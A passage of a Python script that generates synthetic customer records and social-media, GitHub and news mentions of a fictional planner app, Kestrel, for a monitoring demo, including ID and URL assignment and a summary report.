            "Users criticised the Saturday announcement and a change moving the Slack integration to a higher tier.",
        ],
        "price_neu": [
            "Annual subscriptions keep their current price until renewal, the company said."
        ],
        "outage_neg": [
            'Users saw apps stuck on "Connecting..." and 502 errors for around four hours on Monday afternoon.',
            "The company said customers' offline changes were preserved and would sync once service returned.",
        ],
        "after_pos": [
            "The report blames a load balancer health check and client retry behaviour, and lists fixes.",
            "Version 4.2.2 adds jittered backoff to the sync client, according to the postmortem.",
        ],
        "after_neg": [
            "Customers say the combination has made them reconsider the tool.",
            "Some users reported tasks created during the outage did not sync afterwards.",
        ],
        "misc": [
            "Kestrel, which makes a task and project planner for teams, said it now serves more than 40,000 organisations.",
            "The planner is used by teachers to coordinate lessons across departments.",
            "The company, founded in Copenhagen in 2019, employs about 180 people across Europe and North America.",
            "Staff said the shared boards replaced a tangle of spreadsheets and email threads.",
        ],
        "compare_neu": [
            "We tested six tools with a ten-person team over two weeks each.",
            "Kestrel stands out for its timeline and offline mode; Asana for automation.",
        ],
        "praise": [
            "The agency credits the board view and recurring tasks for keeping client work on track.",
            "Reviewers praised the keyboard shortcuts, offline mode and calendar sync.",
        ],
    }
    if topic not in heads:
        return None
    head = rng.choice(heads[topic])
    snip = rng.choice(snippets[topic])
    site = rng.choice(NEWS_SITES)
    return f"{head}\n\n{site} ... {snip} ...", site


# --------------------------------------------------------------------------------------
# Assembly: times, ids, URLs
# --------------------------------------------------------------------------------------

HN_BASE = 50_183_000
REDDIT_POST_BASE = int("1y00000", 36)
REDDIT_COMMENT_BASE = int("o5a0000", 36)
GH_COMMENT_BASE = 3_561_200_000
GH_ISSUE_START = {
    "kestrel-hq/kestrel": 2874,
    "kestrel-hq/kestrel-android": 611,
    "kestrel-hq/kestrel-cli": 143,
}


def sample_times(rng: random.Random, component: str, count: int) -> list[datetime]:
    minutes = 14 * 1440
    prof = minute_profile(component, WINDOW_START, minutes)
    cum, acc = [], 0.0
    for w in prof:
        acc += w
        cum.append(acc)
    picks = rng.choices(range(minutes), cum_weights=cum, k=count)
    return sorted(WINDOW_START + timedelta(minutes=p, seconds=rng.randint(0, 59)) for p in picks)


def ordinary_time(rng: random.Random, not_before: datetime | None) -> datetime:
    """A time on an ordinary stretch of the fortnight: away from the event spikes."""
    while True:
        t = sample_times(rng, "general", 1)[0]
        if not_before and t < not_before + timedelta(minutes=30):
            continue
        if OUTAGE_START - timedelta(hours=1) <= t <= OUTAGE_END + timedelta(hours=2):
            continue
        if RELEASE_AT <= t <= RELEASE_AT + timedelta(hours=8):
            continue
        if PRICE_AT <= t <= PRICE_AT + timedelta(hours=6):
            continue
        if t >= REFERENCE_TIME - timedelta(minutes=5):
            continue
        return t


def build_history(gen: Generator, rng: random.Random) -> list[Mention]:
    roots: list[Mention] = []
    for component, count in COMPONENT_COUNTS.items():
        for t in sample_times(rng, component, count):
            ch = weighted(rng, COMPONENT_CHANNELS[component])
            # About half of the RSS items are Google Alerts (press coverage), not blogs.
            if ch == "rss" and rng.random() < 0.5:
                m = gen.make_alert(component, t)
                if m is not None:
                    roots.append(m)
                    continue
            m = gen.make_root(component, t, channel=ch)
            if m is not None:
                roots.append(m)
    roots += gen.brand_posts()
    for spec in HOSTILE:
        roots.append(gen.hostile(spec, ordinary_time(rng, spec.get("after"))))
    n_replies = round(len(roots) * REPLY_SHARE / (1 - REPLY_SHARE))
    replies = gen.add_replies(roots, n_replies, REFERENCE_TIME - timedelta(minutes=1))
    return sorted(roots + replies, key=lambda m: (m.time, m.seq))


def build_stream(
    gen: Generator,
    rng: random.Random,
    history: list[Mention],
    n_roots: int = 392,
    n_replies: int = 62,
) -> list[Mention]:
    out: list[Mention] = []
    t = REFERENCE_TIME + timedelta(seconds=6)
    hostile_at = set(rng.sample(range(20, n_roots), len(HOSTILE_STREAM)))
    hostile_specs = list(HOSTILE_STREAM)
    for i in range(n_roots):
        t += timedelta(seconds=rng.randint(14, 85))
        if i in hostile_at:
            out.append(gen.hostile(hostile_specs.pop(0), t))
            continue
        component = weighted(rng, STREAM_COMPONENTS)
        m = None
        ch = weighted(rng, COMPONENT_CHANNELS[component])
        if ch == "rss" and rng.random() < 0.4:
            m = gen.make_alert(component, t)
        m = m or gen.make_root(component, t, channel=ch)
        if m is not None:
            out.append(m)
    end = t
    # Replies in the stream answer posts from the history file (the demo gives stream
    # items fresh ids, so pointing at other stream items would break).
    candidates = [m for m in history if m.channel in REPLY_CHANNEL_SPLIT and not m.hostile]
    weights = [
        gen.reply_weight(m, end)
        * math.exp(-(REFERENCE_TIME - m.time).total_seconds() / (3 * 86400))
        for m in candidates
    ]
    made = 0
    while made < n_replies:
        parent = rng.choices(candidates, weights=weights)[0]
        rt = REFERENCE_TIME + timedelta(
            seconds=rng.uniform(10, (end - REFERENCE_TIME).total_seconds())
        )
        r = gen.make_reply(parent, rt.replace(microsecond=0), end)
        if r is not None:
            out.append(r)
            made += 1
    for m in out:
        m.stream = True
    return sorted(out, key=lambda m: (m.time, m.seq))


def reddit_slug(title: str) -> str:
    s = re.sub(r"[^a-z0-9]+", "_", ascii_fold(title).lower()).strip("_")[:50].rstrip("_")
    return s or "kestrel"


def assign_ids(mentions: list[Mention], world: World, rng: random.Random) -> None:
    """Network-native ids and URLs, in time order, so ids grow with time like the real ones."""
    ordered = sorted(mentions, key=lambda m: (m.stream, m.time, m.seq))
    last = {"hn": 0, "t3": 0, "t1": 0, "gh": 0}
    issue_no = dict(GH_ISSUE_START)
    taken: dict[str, set] = {ch: set() for ch in CHANNELS}
    for m in ordered:
        sec = (m.time - WINDOW_START).total_seconds()
        a = m.author
        if m.channel == "mastodon":
            while True:
                ms = int(m.time.timestamp()) * 1000 + rng.randint(0, 999)
                m.id = str((ms << 16) | rng.randint(0, 65535))
                if m.id not in taken["mastodon"]:
                    break
            m.url = f"{a.url}/{m.id}"
        elif m.channel == "bluesky":
            rkey = make_tid(
                int(m.time.timestamp()) * 1_000_000 + rng.randint(0, 999_999), rng.randint(0, 1023)
            )
            m.id = f"at://{a.did}/app.bsky.feed.post/{rkey}"
            m.url = f"https://bsky.app/profile/{a.handle}/post/{rkey}"
        elif m.channel == "hackernews":
            last["hn"] = max(last["hn"] + 1, HN_BASE + int(sec * 0.128) + rng.randint(0, 30))
            m.id = str(last["hn"])
            m.url = f"https://news.ycombinator.com/item?id={m.id}"
        elif m.channel == "reddit":
            root = m.root()
            if m.kind == "post":
                last["t3"] = max(
                    last["t3"] + 1, REDDIT_POST_BASE + int(sec * 17.4) + rng.randint(0, 12)
                )
                p36 = to36(last["t3"])
                m.id = "t3_" + p36
                m.url = f"https://www.reddit.com/r/{m.sub}/comments/{p36}/{reddit_slug(m.text.split(chr(10))[0])}/"
            else:
                last["t1"] = max(
                    last["t1"] + 1, REDDIT_COMMENT_BASE + int(sec * 81) + rng.randint(0, 40)
                )
                c36 = to36(last["t1"])
                m.id = "t1_" + c36
                if root.kind == "post":
                    pid, slug = root.id[3:], reddit_slug(root.text.split("\n")[0])
                else:
                    pid, slug = root.ext
                m.url = f"https://www.reddit.com/r/{m.sub}/comments/{pid}/{slug}/{c36}/"
        elif m.channel == "github":
            root = m.root()
            if m.kind == "issue":
                m.number = issue_no[m.repo]
                issue_no[m.repo] += 1 + (rng.random() < 0.35)  # PRs share the number space
                m.id = f"{m.repo}#{m.number}"
                m.url = f"https://github.com/{m.repo}/issues/{m.number}"
            else:
                last["gh"] = max(
                    last["gh"] + 1, GH_COMMENT_BASE + int(sec * 38) + rng.randint(0, 25)
                )
                num = root.number if root.kind == "issue" else root.ext
                m.id = f"{m.repo}#{num}-comment-{last['gh']}"
                m.url = f"https://github.com/{m.repo}/issues/{num}#issuecomment-{last['gh']}"
        elif m.channel == "rss":
            title = m.text.split("\n")[0]
            slug = slugify(title, "-")[:60].rstrip("-") or f"{rng.getrandbits(32):08x}"
            domain, style = world.feed_meta[a.handle]
            y, mo = m.time.strftime("%Y"), m.time.strftime("%m")
            if style == "alerts":
                site = m.ext
                m.id = f"tag:google.com,2013:googlealerts/feed:{rng.randint(10**18, 10**19 - 1)}"
                usg = "".join(
                    rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-")
                    for _ in range(22)
                )
                wrapped = (
                    f"https://www.google.com/url?rct=j&sa=t&url=https://{site}/{y}/{mo}/{slug}"
                    f"&ct=ga&cd=CAIyGjQ{rng.getrandbits(40):010x}&usg=AOvVaw{usg}"
                )
                # The feed links through Google's redirect; the RSS source stores the
                # article itself (channels/feeds.py), and so does the demo.
                m.url = google_target(wrapped)
            elif style == "substack":
                m.url = m.id = f"https://{domain}/p/{slug}"
            elif style == "zenn":
                m.url = m.id = f"https://{domain}/articles/{rng.getrandbits(56):014x}"
            elif style == "qiita":
                m.url = m.id = f"https://{domain}/items/{rng.getrandbits(80):020x}"
            elif style == "wp":
                m.url = f"https://{domain}/{slug}/"
                m.id = f"https://{domain}/?p={rng.randint(1200, 9800)}"
            else:
                m.url = m.id = f"https://{domain}/{y}/{mo}/{slug}/"
        if m.id in taken[m.channel]:
            raise SystemExit(f"duplicate id {m.id}")
        taken[m.channel].add(m.id)


def google_target(link: str) -> str:
    """The article a Google Alerts redirect (`https://www.google.com/url?…&url=…`) leads to."""
    return parse_qs(urlsplit(link).query)["url"][0]


def mention_json(m: Mention) -> str:
    d = {
        "channel": m.channel,
        "id": m.id,
        "url": m.url,
        "text": m.text,
        "created_at": iso(m.time),
        "author": m.author.as_json(),
    }
    if m.parent is not None:
        d["in_reply_to"] = m.parent.id
    return json.dumps(d, ensure_ascii=True)


# --------------------------------------------------------------------------------------
# Output and summary
# --------------------------------------------------------------------------------------


def summary(
    history: list[Mention], stream: list[Mention], customers: list[Customer], sizes: dict
) -> str:
    lines = []
    allm = history + stream
    lines.append(f"customers: {len(customers)}  mentions: {len(history)}  stream: {len(stream)}")
    for label, ms in (("mentions", history), ("stream", stream)):
        n = len(ms)
        ch = Counter(m.channel for m in ms)
        lines.append(
            f"[{label}] channels: " + ", ".join(f"{c} {ch[c]} ({ch[c] / n:.0%})" for c in CHANNELS)
        )
        lg = Counter(m.lang for m in ms)
        lines.append(
            f"[{label}] languages: "
            + ", ".join(f"{k} {v}" for k, v in lg.most_common())
            + f"  (non-English {sum(v for k, v in lg.items() if k != 'en') / n:.1%})"
        )
        se = Counter(m.sentiment for m in ms)
        lines.append(
            f"[{label}] sentiment: "
            + ", ".join(
                f"{k} {se[k]} ({se[k] / n:.0%})" for k in ("negative", "positive", "neutral")
            )
        )
        lines.append(
            f"[{label}] replies: {sum(1 for m in ms if m.parent is not None) / n:.1%}  "
            f"customer authors: {sum(1 for m in ms if m.author.customer) / n:.1%}  "
            f"hostile: {sum(1 for m in ms if m.hostile)}  "
            f"over 2,000 chars: {sum(1 for m in ms if len(m.text) > 2000)}"
        )
    lines.append("mentions per UTC day (neg/pos/neu):")
    days = Counter(m.time.date() for m in history)
    for d in sorted(days):
        day_ms = [m for m in history if m.time.date() == d]
        se = Counter(m.sentiment for m in day_ms)
        mark = {
            date(2026, 11, 10): "  <- 4.2 release",
            date(2026, 11, 14): "  <- price increase",
            date(2026, 11, 16): "  <- EU sync outage",
        }.get(d, "")
        lines.append(
            f"  {d} {d.strftime('%a')} {days[d]:4d} {se['negative']:3d}/{se['positive']:3d}/"
            f"{se['neutral']:3d} " + "#" * (days[d] // 5) + mark
        )
    for k, v in sizes.items():
        lines.append(f"{k}: {v:,} bytes")
    _ = allm
    return "\n".join(lines)


def add_unlisted_accounts(
    rng: random.Random, customers: list[Customer], reg: HandleRegistry
) -> int:
    """Accounts customers post from that the CRM does not know: the same handle on another
    network, or a new one. A distinctive handle (Salty_Badger_5204) re-used elsewhere is
    what the matcher links on its own; a name-shaped one (kate_l) it only suggests."""
    added = 0
    for c in customers:
        known = [h for net in NETS for h in c.handles.get(net, [])]
        free = [net for net in NETS if net not in c.handles and net != "hackernews"]
        if not known or not free:
            continue
        odd = [h for h in known if re.search(r"_\d{3,}$", h)]
        if odd and rng.random() < 0.9:
            net = rng.choice([n for n in free if n in ("github", "bluesky", "mastodon")] or free)
            core = odd[0].lower()
            handle = {
                "github": core.replace("_", "-"),
                "bluesky": core.replace("_", "-") + ".bsky.social",
                "mastodon": f"{core}@{rng.choice(MASTO_INSTANCES['en'])}",
            }.get(net, core)
            c.handles[net] = [reg.claim(net, handle, rng)]
            added += 1
            continue
        if rng.random() > 0.3:
            continue
        net = rng.choice(free)
        core = known[0].split("@", 1)[0].removesuffix(".bsky.social").replace("-", "_")
        base = core if rng.random() < 0.75 else None
        c.handles[net] = [reg.claim(net, net_handle(rng, net, c.person, base), rng)]
        added += 1
    return added


def add_profile_links(rng: random.Random, customers: list[Customer]) -> int:
    """Profile fields of customers' Mastodon accounts, as Mastodon gives them: a link to
    their company's site, which their server has verified (rel=me) for most and not yet
    for the rest. A verified one on the company's domain is evidence the matcher links
    on by itself; an unverified one is shown, and only suggests. Its own random stream:
    every other choice in the fixtures stays as it was."""
    personal = {d for mails in PERSONAL_MAIL.values() for d in mails}
    added = 0
    for c in customers:
        domain = (c.record.get("email") or "").rpartition("@")[2]
        if not domain or domain in personal:
            continue
        for handle in c.handles.get("mastodon", []):
            roll = rng.random()
            if roll < 0.5:
                link = {"url": f"https://{domain}/", "verified": roll < 0.35, "label": "Work"}
                c.links[handle] = [link]
                added += 1
    return added


def generate(out_dir: Path) -> str:
    reg = HandleRegistry()
    for net, h in BRAND_HANDLES.items():
        if h and net in reg.taken:
            reg.reserve(net, h)
    customers = build_customers(random.Random(f"{SEED}:customers"), reg)
    add_unlisted_accounts(random.Random(f"{SEED}:unlisted"), customers, reg)
    add_profile_links(random.Random(f"{SEED}:links"), customers)
    world = World(random.Random(f"{SEED}:authors"), customers, reg)
    renderer = Renderer(random.Random(f"{SEED}:render"))
    renderer.issue_numbers = sorted(random.Random(f"{SEED}:issues").sample(range(2300, 2870), 40))
    gen = Generator(random.Random(f"{SEED}:mentions"), world, renderer)
    history = build_history(gen, random.Random(f"{SEED}:history"))
    stream = build_stream(gen, random.Random(f"{SEED}:stream"), history)
    assign_ids(history + stream, world, random.Random(f"{SEED}:ids"))

    out_dir.mkdir(parents=True, exist_ok=True)
    files = {
        "customers.jsonl": "".join(
            json.dumps(c.record, ensure_ascii=True) + "\n" for c in customers
        ),
        "mentions.jsonl": "".join(mention_json(m) + "\n" for m in history),
        "stream.jsonl": "".join(mention_json(m) + "\n" for m in stream),
    }
    manifest = {
        "product": PRODUCT,
        "reference_time": iso(REFERENCE_TIME),
        "brand_handles": BRAND_HANDLES,
        "counts": {
            "customers": len(customers),
            "mentions": len(history),
            "stream": len(stream),
            "mentions_by_channel": {c: sum(1 for m in history if m.channel == c) for c in CHANNELS},
            "stream_by_channel": {c: sum(1 for m in stream if m.channel == c) for c in CHANNELS},
        },
        "events": [
            {k: (iso(v) if isinstance(v, datetime) else v) for k, v in e.items()} for e in EVENTS
        ],
    }
    files["demo.json"] = json.dumps(manifest, ensure_ascii=True, indent=2) + "\n"
    sizes = {}
    for name, content in files.items():
        data = content.encode("ascii")  # ensure_ascii everywhere: plain ASCII, valid UTF-8
        (out_dir / name).write_bytes(data)
        sizes[name] = len(data)
    return summary(history, stream, customers, sizes)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--out", type=Path, default=DEFAULT_OUT, help="output directory")
    ap.add_argument("--quiet", action="store_true", help="do not print the summary")
    args = ap.parse_args(argv)
    report = generate(args.out)
    if not args.quiet:
        print(report)
    return 0


if __name__ == "__main__":
    sys.exit(main())
